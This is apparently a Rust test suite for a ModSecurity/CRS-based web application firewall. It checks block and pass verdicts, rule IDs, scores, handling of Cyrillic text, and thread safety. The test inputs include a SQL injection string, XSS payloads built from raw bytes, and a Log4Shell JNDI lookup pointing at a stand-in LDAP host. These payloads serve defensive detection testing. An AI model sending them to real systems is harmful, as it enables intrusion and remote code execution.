//! The engine end to end with libmodsecurity and Debian's CRS: a site's rules, verdicts,
//! matched rules and scores, and what happens without the library.

mod common;

use common::{engine, request, site};
use waf::engine::{Engine, EngineError, EnginePaths, RuleSettings, VerdictKind, explain};

#[test]
fn without_the_library_the_waf_says_what_to_install() {
    let paths = EnginePaths { library: "/nonexistent/libmodsecurity.so.3".into(), ..EnginePaths::default() };
    let err = Engine::load(&paths).err().expect("no engine without its library");
    assert!(matches!(err, EngineError::Library { .. }));
    assert!(err.to_string().contains("install the Debian package libmodsecurity3"), "{err}");
    let paths = EnginePaths { crs_rules: "/nonexistent/crs".into(), ..EnginePaths::default() };
    let err = Engine::load(&paths).err().expect("no engine without the CRS");
    assert!(err.to_string().contains("modsecurity-crs"), "{err}");
}

#[test]
fn an_sql_injection_is_refused_with_its_rules_and_score() {
    let Some(engine) = engine() else { return };
    assert!(engine.version().contains("ModSecurity v3."), "{}", engine.version());
    let rules = site(engine, &RuleSettings::default());
    let verdict = explain(&rules, &request("GET", "/search?q=1%27%20or%20%271%27%3D%271"));
    assert_eq!(verdict.verdict, VerdictKind::Block);
    assert_eq!(verdict.status, Some(403));
    assert_eq!(verdict.rules, [942100, 949110]);
    assert_eq!(verdict.score, 5);
    let sqli = &verdict.outcome.matches[0];
    assert_eq!(sqli.message, "SQL Injection Attack Detected via libinjection");
    assert!(sqli.data.contains("ARGS:q: 1' or '1'='1"), "{}", sqli.data);
    assert_eq!(sqli.severity, Some(2));
    assert_eq!(
        serde_json::to_string(&verdict).unwrap(),
        r#"{"verdict":"block","score":5,"rules":[942100,949110],"status":403}"#
    );
}

#[test]
fn a_plain_page_passes_with_no_match() {
    let Some(engine) = engine() else { return };
    let rules = site(engine, &RuleSettings::default());
    let verdict = explain(&rules, &request("GET", "/ru/news/2024/05/?page=2"));
    assert_eq!(verdict.verdict, VerdictKind::Pass);
    assert_eq!((verdict.score, verdict.rules.len()), (0, 0));
}

#[test]
fn russian_and_kazakh_text_passes_and_the_raw_byte_attacks_do_not() {
    let Some(engine) = engine() else { return };
    let rules = site(engine, &RuleSettings::default());
    let form = "application/x-www-form-urlencoded";
    let passing: [(&str, Vec<u8>); 4] = [
        // м (D0 BC) and о (D0 BE): what 941310 matched in every such word.
        ("/ru/appeals/new/", "MESSAGE=%D0%9F%D1%80%D0%BE%D1%88%D1%83+%D0%BF%D0%BE%D0%BC%D0%BE%D1%87%D1%8C+%D0%B4%D0%BE%D0%BC%D1%83+%E2%84%96+14".into()),
        ("/kk/appeals/new/", "MESSAGE=%D2%9A%D0%BE%D2%93%D0%B0%D0%BC%D0%B4%D1%8B%D2%9B+%D0%BA%D0%B5%D2%A3%D0%B5%D1%81%D0%BA%D0%B5+%D3%A9%D1%82%D1%96%D0%BD%D1%96%D1%88".into()),
        // Т а р а з: the low bytes of its code points read `"0@07`, SQL to libinjection.
        ("/api/v1/profile", r#"{"city":"Тараз","office":"ЦОН Тараз","note":"Омск, мс мо"}"#.into()),
        ("/api/v1/profile", r#"{"city":"\u0422\u0430\u0440\u0430\u0437"}"#.into()),
    ];
    for (uri, body) in passing {
        let ctype = if body.starts_with(b"{") { "application/json" } else { form };
        let verdict = explain(&rules, &common::post(uri, ctype, &body));
        assert_eq!(
            (verdict.verdict, verdict.rules.len()),
            (VerdictKind::Pass, 0),
            "{uri}: {:?}",
            verdict.outcome.matches
        );
    }
    // Raw 0xBC/0xBE bytes (not UTF-8) are still the attack 941310 was written for.
    let raw = explain(&rules, &request("GET", "/?q=%BCscript%BEalert(1)%BC/script%BE"));
    assert_eq!((raw.verdict, raw.rules.contains(&941310)), (VerdictKind::Block, true), "{:?}", raw.rules);
    // So are ¼ and ¾ (C2 BC, C2 BE): valid UTF-8, but not Cyrillic letters.
    let latin = explain(&rules, &request("GET", "/?q=%C2%BCscript%C2%BEalert(1)%C2%BC/script%C2%BE"));
    assert_eq!((latin.verdict, latin.rules.contains(&941310)), (VerdictKind::Block, true), "{:?}", latin.rules);
    // Cyrillic text does not hide an attack next to it.
    let mixed = explain(&rules, &request("GET", "/?q=%D0%A2%D0%B0%D1%80%D0%B0%D0%B7%27%20or%20%271%27%3D%271"));
    assert_eq!(mixed.verdict, VerdictKind::Block, "{:?}", mixed.rules);
}

#[test]
fn log4shell_in_a_header_is_refused_by_the_projects_rule() {
    let Some(engine) = engine() else { return };
    let rules = site(engine, &RuleSettings::default());
    let mut req = request("GET", "/");
    req.headers.insert("x-api-version", "${${lower:j}ndi:ldap://203.0.113.66/a}".parse().unwrap());
    let verdict = explain(&rules, &req);
    assert_eq!((verdict.verdict, verdict.rules.as_slice()), (VerdictKind::Block, [10030, 949110].as_slice()));
    let mut plain = request("GET", "/");
    plain.headers.insert("x-template", "Hello ${name}, price {price}".parse().unwrap());
    assert_eq!(explain(&rules, &plain).verdict, VerdictKind::Pass);
}

#[test]
fn transactions_on_several_threads_share_one_site_and_keep_their_own_matches() {
    let Some(engine) = engine() else { return };
    let rules = site(engine, &RuleSettings::default());
    std::thread::scope(|scope| {
        for thread in 0..4 {
            let rules = rules.clone();
            scope.spawn(move || {
                for i in 0..50 {
                    let attack = (thread + i) % 2 == 0;
                    let uri =
                        if attack { format!("/s?q=1%27%20or%20%27{i}%27%3D%27{i}") } else { format!("/news/{i}/") };
                    let verdict = explain(&rules, &request("GET", &uri));
                    if attack {
                        assert_eq!(verdict.rules, [942100, 949110], "thread {thread} request {i}");
                        assert!(
                            verdict.outcome.matches[0].data.contains(&format!("or '{i}'='{i}")),
                            "{:?}",
                            verdict.outcome.matches[0]
                        );
                    } else {
                        assert_eq!(
                            verdict.verdict,
                            VerdictKind::Pass,
                            "thread {thread} request {i}: {:?}",
                            verdict.rules
                        );
                    }
                }
            });
        }
    });
}
